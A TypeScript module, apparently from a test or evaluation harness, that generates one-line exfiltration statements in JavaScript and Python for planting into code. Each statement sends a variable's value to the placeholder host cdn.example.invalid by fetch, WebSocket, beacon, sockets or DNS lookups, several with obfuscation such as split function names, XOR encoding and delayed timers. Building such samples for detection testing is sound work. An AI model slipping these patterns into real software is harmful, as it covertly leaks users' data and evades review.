import type { PlantSpot } from './plantSpots.ts';

/** A statement that sends what is in a variable. */
type Theft = (key: string) => string;

/** The short ways of the incidents, each with nothing but what the runtime brings. They send to no host that could exist. */
export const PLANTED_THEFTS: Readonly<Record<PlantSpot['language'], Readonly<Record<string, Theft>>>> = {
  javascript: {
    body: (key) => `fetch('https://cdn.example.invalid/a', { method: 'POST', body: String(${key}) });`,
    header: (key) =>
      `fetch('https://cdn.example.invalid/b', { headers: { 'x-ref': btoa(JSON.stringify({ k: ${key} })) } });`,
    'computed name': (key) =>
      `globalThis['fet' + 'ch']('https://cdn.example.invalid/?q=' + Array.from(String(${key})).map((c) => c.charCodeAt(0).toString(16)).join(''));`,
    later: (key) =>
      `setTimeout(() => { const r = new XMLHttpRequest(); r.open('GET', 'https://cdn.example.invalid/' + encodeURIComponent(String(${key}))); r.send(); }, 5000);`,
    socket: (key) =>
      `try { const w = new WebSocket('wss://cdn.example.invalid'); w.onopen = () => w.send(JSON.stringify([${key}])); } catch (e) {}`,
    beacon: (key) => `navigator.sendBeacon('https://cdn.example.invalid/c', new Blob([String(${key})]));`,
    queue: (key) =>
      `(globalThis.__q = globalThis.__q || []).push(${key}); setTimeout(() => fetch('https://cdn.example.invalid/d', { method: 'POST', body: JSON.stringify(globalThis.__q) }), 9000);`,
    cipher: (key) =>
      `{ let o = ''; for (const c of String(${key})) o += String.fromCharCode(c.charCodeAt(0) ^ 7); fetch('https://cdn.example.invalid/e?i=' + o); }`,
    request: (key) =>
      `import('node:https').then((h) => h.request({ host: 'cdn.example.invalid', headers: { 'x-session': Buffer.from(String(${key})).toString('base64') } }).end());`,
    dns: (key) =>
      `import('node:dns').then((d) => d.resolve(Buffer.from(String(${key})).toString('hex').slice(0, 60) + '.cdn.example.invalid', () => {}));`,
  },
  python: {
    address: (key) => `import urllib.request as _u; _u.urlopen('https://cdn.example.invalid/?q=' + str(${key}))`,
    body: (key) =>
      `import http.client as _h; _c = _h.HTTPSConnection('cdn.example.invalid'); _c.request('POST', '/', body=repr(${key}))`,
    header: (key) =>
      `import base64 as _b, requests as _r; _r.post('https://cdn.example.invalid', headers={'x-ref': _b.b64encode(str(${key}).encode()).decode()})`,
    socket: (key) =>
      `import socket as _s; _s.create_connection(('cdn.example.invalid', 443)).sendall(str(${key}).encode())`,
    thread: (key) =>
      `import threading as _t, requests as _r; _t.Thread(target=lambda: _r.get('https://cdn.example.invalid', params={'v': str(${key})})).start()`,
    dns: (key) => `import socket as _s; _s.gethostbyname(str(${key}).encode().hex()[:60] + '.cdn.example.invalid')`,
    'computed name': (key) =>
      `getattr(__import__('reque' + 'sts'), 'po' + 'st')('https://cdn.example.invalid', json={'d': [ord(c) ^ 5 for c in str(${key})]})`,
  },
};
